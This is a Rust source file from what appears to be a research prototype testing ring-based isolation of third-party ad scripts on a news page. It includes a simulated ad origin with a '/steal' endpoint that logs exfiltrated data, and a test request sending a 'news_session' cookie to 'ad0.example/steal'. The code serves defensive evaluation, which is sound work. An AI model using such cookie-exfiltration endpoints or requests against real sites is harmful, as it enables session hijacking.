//! A news publisher leasing N advertising slots to third-party ad origins.
//!
//! This is the paper's introduction scenario at scale: one ring-1 publisher
//! page embeds `N` ring-2 slots, each pulling a banner image from its own
//! third-party origin (`http://ad<i>.example`) and running that network's
//! inline script. The multi-origin subresource fan-out puts one request per ad
//! origin in flight in one deadline window; the per-slot rings exercise the
//! confinement claim — a well-behaved ad may restyle its own slot, a rogue one
//! must not reach the publisher's headline or session cookie even though its
//! script runs in the publisher's page.

use std::fmt;
use std::sync::{Arc, Mutex};

use escudo_core::config::{ApiPolicy, CookiePolicy, NativeApi};
use escudo_core::{Acl, Ring};
use escudo_net::{Request, Response, Server, SetCookie, StatusCode};

use crate::markup::AcMarkup;
use crate::session::SessionStore;

/// The publisher's session cookie.
pub const NEWS_COOKIE: &str = "news_session";

/// Server-side state of the publisher.
#[derive(Debug)]
pub struct NewsState {
    /// Live sessions.
    pub sessions: SessionStore,
}

/// The news publisher.
pub struct NewsSite {
    escudo: bool,
    /// Number of leased ad slots (one third-party origin each).
    slots: usize,
    /// When set, this slot (0-based) runs `rogue_script` instead of the
    /// well-behaved restyle script.
    rogue_slot: Option<usize>,
    rogue_script: String,
    state: Arc<Mutex<NewsState>>,
}

impl fmt::Debug for NewsSite {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("NewsSite")
            .field("escudo", &self.escudo)
            .field("slots", &self.slots)
            .field("rogue_slot", &self.rogue_slot)
            .finish()
    }
}

impl NewsSite {
    /// A publisher with `slots` leased ad slots, all well-behaved.
    #[must_use]
    pub fn new(slots: usize) -> Self {
        NewsSite {
            escudo: true,
            slots: slots.max(1),
            rogue_slot: None,
            rogue_script: String::new(),
            state: Arc::new(Mutex::new(NewsState {
                sessions: SessionStore::new(0xAD00),
            })),
        }
    }

    /// Replaces one slot's script with a rogue one (builder style).
    #[must_use]
    pub fn with_rogue_slot(mut self, slot: usize, script: &str) -> Self {
        self.rogue_slot = Some(slot);
        self.rogue_script = script.to_string();
        self
    }

    /// The origin serving slot `i`'s banner, e.g. `http://ad0.example`.
    #[must_use]
    pub fn ad_origin(i: usize) -> String {
        format!("http://ad{i}.example")
    }

    /// A handle to the server-side state.
    #[must_use]
    pub fn state(&self) -> Arc<Mutex<NewsState>> {
        Arc::clone(&self.state)
    }

    fn with_policies(&self, response: Response) -> Response {
        if !self.escudo {
            return response;
        }
        response
            .with_cookie_policy(
                &CookiePolicy::new(NEWS_COOKIE, Ring::new(1)).with_acl(Acl::uniform(Ring::new(1))),
            )
            .with_api_policy(&ApiPolicy::new(NativeApi::XmlHttpRequest, Ring::new(1)))
            .with_api_policy(&ApiPolicy::new(NativeApi::CookieApi, Ring::new(1)))
    }

    fn render_front_page(&self) -> Response {
        let mut markup = AcMarkup::new(0xAD00, self.escudo);

        let article = markup.region(
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "id=\"article\"",
            "<h1 id=\"headline\">Rings for the web</h1>\
             <p id=\"article-body\">ESCUDO assigns every ad network its own ring.</p>",
        );

        // Each slot: a banner image from its own origin plus that network's
        // inline script, confined to ring 2.
        let mut slot_markup = String::new();
        for i in 0..self.slots {
            let script = match self.rogue_slot {
                Some(rogue) if rogue == i => self.rogue_script.clone(),
                _ => format!(
                    "var text = document.getElementById('ad-text-{i}');\
                     if (text != null) {{ text.innerHTML = 'buy things from ad{i}'; }}"
                ),
            };
            let origin = NewsSite::ad_origin(i);
            slot_markup.push_str(&markup.region(
                Ring::new(2),
                Acl::uniform(Ring::new(2)),
                &format!("id=\"ad-slot-{i}\""),
                &format!(
                    "<img id=\"ad-img-{i}\" src=\"{origin}/banner.png\">\
                     <span id=\"ad-text-{i}\">advertisement</span><script>{script}</script>"
                ),
            ));
        }

        let body = markup.region_with_tag(
            "body",
            Ring::new(1),
            Acl::uniform(Ring::new(1)),
            "",
            &format!("{article}{slot_markup}"),
        );
        self.with_policies(Response::ok_html(format!(
            "<!DOCTYPE html><html><head><title>News</title></head>{body}</html>"
        )))
    }
}

impl Server for NewsSite {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/login" | "/login.php" => {
                let user = request
                    .param("user")
                    .unwrap_or_else(|| "reader".to_string());
                let sid = self
                    .state
                    .lock()
                    .expect("app state lock")
                    .sessions
                    .create(&user);
                self.with_policies(
                    Response::redirect("/").with_cookie(SetCookie::new(NEWS_COOKIE, sid)),
                )
            }
            "/" | "/index.html" => self.render_front_page(),
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

/// One third-party ad origin: serves banner images and records anything that
/// lands on its `/steal` endpoint (a rogue network doubles as the exfiltration
/// sink — the stolen cookie travels to an origin the page legitimately loads
/// images from).
pub struct AdServer {
    banners_served: Arc<Mutex<u64>>,
    stolen: Arc<Mutex<Vec<String>>>,
}

impl fmt::Debug for AdServer {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AdServer")
            .field(
                "banners_served",
                &*self.banners_served.lock().expect("app state lock"),
            )
            .finish()
    }
}

impl AdServer {
    /// Creates an ad origin.
    #[must_use]
    pub fn new() -> Self {
        AdServer {
            banners_served: Arc::new(Mutex::new(0)),
            stolen: Arc::new(Mutex::new(Vec::new())),
        }
    }

    /// A handle to the banner-hit counter.
    #[must_use]
    pub fn banners_served(&self) -> Arc<Mutex<u64>> {
        Arc::clone(&self.banners_served)
    }

    /// A handle to the exfiltration log (query strings received at `/steal`).
    #[must_use]
    pub fn stolen(&self) -> Arc<Mutex<Vec<String>>> {
        Arc::clone(&self.stolen)
    }
}

impl Default for AdServer {
    fn default() -> Self {
        AdServer::new()
    }
}

impl Server for AdServer {
    fn handle(&mut self, request: &Request) -> Response {
        match request.url.path() {
            "/banner.png" => {
                *self.banners_served.lock().expect("app state lock") += 1;
                // The banner is a static asset: declare it cacheable so
                // cache-enabled sessions can serve repeat impressions as
                // response-cache hits (the served counter then counts origin
                // fetches, not impressions).
                Response::ok_text("PNG").with_max_age(300)
            }
            "/steal" => {
                self.stolen
                    .lock()
                    .expect("app state lock")
                    .push(request.url.query().to_string());
                Response::ok_text("thanks")
            }
            _ => Response::error(StatusCode::NOT_FOUND, "not found"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_front_page_leases_one_ring_2_slot_per_origin() {
        let mut site = NewsSite::new(3);
        let page = site.handle(&Request::get("http://news.example/").unwrap());
        for i in 0..3 {
            assert!(page.body.contains(&format!("id=\"ad-slot-{i}\"")));
            assert!(page
                .body
                .contains(&format!("http://ad{i}.example/banner.png")));
        }
        assert!(page.body.contains("id=\"headline\""));
        assert!(page.body.contains("ring=\"2\""));
        assert_eq!(page.api_policies().len(), 2);
    }

    #[test]
    fn rogue_slots_swap_in_the_rogue_script() {
        let mut site = NewsSite::new(2).with_rogue_slot(1, "var evil = true;");
        let page = site.handle(&Request::get("http://news.example/").unwrap());
        assert!(page.body.contains("var evil = true;"));
        assert!(page.body.contains("buy things from ad0"));
        assert!(!page.body.contains("buy things from ad1"));
    }

    #[test]
    fn ad_servers_count_banners_and_record_exfiltration() {
        let mut ad = AdServer::new();
        let hits = ad.banners_served();
        let stolen = ad.stolen();
        ad.handle(&Request::get("http://ad0.example/banner.png").unwrap());
        ad.handle(&Request::get("http://ad0.example/banner.png").unwrap());
        ad.handle(&Request::get("http://ad0.example/steal?c=news_session%3Dabc").unwrap());
        assert_eq!(*hits.lock().expect("app state lock"), 2);
        assert!(stolen.lock().expect("app state lock")[0].contains("news_session"));
        assert_eq!(
            ad.handle(&Request::get("http://ad0.example/other").unwrap())
                .status,
            StatusCode::NOT_FOUND
        );
    }
}
